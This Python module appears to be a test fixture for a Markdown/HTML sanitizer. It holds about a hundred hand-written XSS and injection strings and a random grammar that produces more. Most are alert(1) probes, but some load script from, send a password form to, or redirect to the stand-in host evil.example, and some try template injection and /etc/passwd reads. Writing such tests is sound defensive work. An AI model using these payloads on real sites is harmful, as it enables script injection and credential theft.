"""Hostile texts: a hundred of our own, and as many as wanted from a grammar."""

from __future__ import annotations

import random

BODIES: tuple[str, ...] = (
    # Script
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<SCRIPT\n>alert(1)</SCRIPT\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>",
    "<!--><script>alert(1)</script>-->",
    "<!--><img src=x onerror=alert(1)>",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<style></style><script>alert(1)</script>",
    "<textarea></textarea><script>alert(1)</script>",
    "<xmp></xmp><script>alert(1)</script>",
    # Handlers
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>甲</details>",
    "<kb-x onfocus=alert(1) autofocus tabindex=1>甲</kb-x>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>甲</marquee>",
    "<p style=animation-name:kb onanimationstart=alert(1)>甲</p>",
    "<a onmouseover=alert(1) href=#>甲</a>",
    "<div onclick=alert(1) markdown=1>甲 **乙**</div>",
    "甲{ onclick=alert(1) }",
    "[甲](#){ onclick=alert(1) }",
    '[甲](#){: href="javascript:alert(1)" }',
    "![甲](x.png){ onerror=alert(1) }",
    # Addresses
    "[甲](javascript:alert(1))",
    "[甲](JaVaScRiPt:alert(1))",
    "[甲](&#106;avascript:alert(1))",
    "[甲](java&#x09;script:alert(1))",
    "[甲](<java\tscript:alert(1)>)",
    "[甲](&#x2028;javascript:alert(1))",
    "[甲](data:text/html,<script>alert(1)</script>)",
    "[甲](vbscript:msgbox(1))",
    "[甲][乙]\n\n[乙]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<a href='javascript&colon;alert(1)'>甲</a>",
    "<a href=' javascript:alert(1)'>甲</a>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>甲</text></a></svg>",
    "<math href=javascript:alert(1)>甲</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>甲</button></form>",
    "<button form=x formaction=javascript:alert(1)>甲</button><form id=x>",
    # No script, but harm
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; body{display:none}</style>",
    "<form action=//evil.example/><input name=password></form>",
    "<div style='position:fixed;inset:0;background:#fff'>登录</div>",
    "<a target=_blank rel=opener href=https://evil.example/>甲</a>",
    "<div id=__search></div><div id=__config></div><img name=__config>",
    "![甲](https://evil.example/t.png) ![乙](//evil.example/t.png) ![丙](/\\evil.example/t.png)",
    "<video poster=//evil.example/t.png src=//evil.example/t.mp4></video>",
    "<img srcset='//evil.example/t.png 1x' src=x>",
    "<!-- 内部备注：绝密 -->",
    # What swallows the rest of the page
    "<textarea>",
    "<plaintext>",
    "<style>",
    "<math><mi><style>",
    "<select><option>",
    "</div></div></article></main></body></html><h1>甲</h1>",
)  # fmt: skip
"""Bodies of documents and of hand-written pages."""

FIELDS: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\" onmouseover=alert(1) autofocus onfocus=alert(1) x=\"",
    "' onmouseover=alert(1) autofocus onfocus=alert(1) x='",
    "\"><svg onload=alert(1)>",
    "</script><script>alert(1)</script>",
    "</textarea></style></noscript><img src=x onerror=alert(1)>",
    "-->&lt;<img src=x onerror=alert(1)><!--",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "[甲](javascript:alert(1))",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}",
    "${alert(1)}{{constructor.constructor('alert(1)')()}}",
    "`<img src=x onerror=alert(1)>`",
    "\\\"><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "../../../../evil",
    "//evil.example/x",
    "甲\u2028<script>alert(1)</script>",
    "\ufeff<svg/onload=alert(1)>",
)  # fmt: skip
"""Values of front matter."""

_TAGS = (
    "script", "img", "svg", "iframe", "object", "embed", "form", "input", "style", "math", "template",
    "details", "video", "a", "div", "p", "table", "td", "base", "meta", "link", "textarea", "noscript",
    "kb-x", "annotation-xml", "foreignObject", "select", "title", "mglyph", "h1", "plaintext", "frameset",
)  # fmt: skip
_ATTRIBUTES = (
    "onload=alert(1)", "onerror=alert(1)", "onclick='alert(1)'", 'onfocus="alert(1)" autofocus',
    "src=x", "src=javascript:alert(1)", "href=javascript:alert(1)", "href=//evil.example/",
    "srcdoc='<script>alert(1)</script>'", "style=position:fixed", "id=__search", "class=md-overlay",
    "xlink:href=javascript:alert(1)", "action=//evil.example/", "http-equiv=refresh content=0;//evil.example",
    "encoding=text/html", "shadowrootmode=open", "name=__config", "title='</p><img src=x onerror=alert(1)>'",
    "data=//evil.example/", "background=//evil.example/", "markdown=1", "\x0bonload=alert(1)", "ONLOAD=alert(1)",
)  # fmt: skip
_SPACES = (" ", "\n", "/", "\t", "  ", " / ", "\u00a0")
_ADDRESSES = (
    "javascript:alert(1)", "JAVASCRIPT:alert(1)", "java\tscript:alert(1)", "&#x6a;avascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "//evil.example/x.png", "\\\\evil.example\\x",
    "https:evil.example", "http://evil.example/t.png", "vbscript:1", "#__search", "file:///etc/passwd",
    "blob:https://evil.example/1", "x.md", "../../lessons/LS-001.md",
)  # fmt: skip
_FRAMES = (
    "{}", "**{}**", "- {}\n- 乙", "> {}", "### {}", "1. {}", "甲\n:   {}", "| 甲 |\n|---|\n| {} |", "[{}](x.md)",
    "![{}](x.png)", "`甲`{}", "```\n甲\n```\n{}", "!!! note \"{}\"\n    乙", "甲[^1]\n\n[^1]: {}", "- [ ] {}",
    "<div markdown=1>\n\n{}\n\n</div>", "    {}", "<p>{}", "</div>{}", "<table><tr>{}", "~~~{}\n乙\n~~~",
    "*[甲]: {}\n\n甲", "{}{}", "<select>{}", "<svg>{}", "<math><mtext>{}", "<!-- {} -->", "<style>{}</style>",
)  # fmt: skip


def grow(chance: random.Random, depth: int = 3) -> str:
    """One hostile body: an element, a link or words, in up to `depth` frames of Markdown and HTML."""
    frame = chance.choice(_FRAMES) if depth and chance.random() < 0.75 else None
    if frame is not None:
        return frame.replace("{}", "\0").replace("\0", grow(chance, depth - 1))
    match chance.randrange(4):
        case 0:
            return f"[甲]({chance.choice(_ADDRESSES)})"
        case 1:
            return f"![甲]({chance.choice(_ADDRESSES)})"
        case _:
            return _element(chance, depth)


def _element(chance: random.Random, depth: int) -> str:
    tag = chance.choice(_TAGS)
    if chance.random() < 0.2:
        tag = tag.upper()
    given = chance.sample(_ATTRIBUTES, chance.randint(0, 3))
    start = "<" + tag + "".join(chance.choice(_SPACES) + each for each in given)
    inside = _element(chance, depth - 1) if depth and chance.random() < 0.4 else "alert(1)"
    return start + chance.choice(
        (f">{inside}</{tag}>", f">{inside}", "/>", f">{inside}</{tag} x>", "")
    )
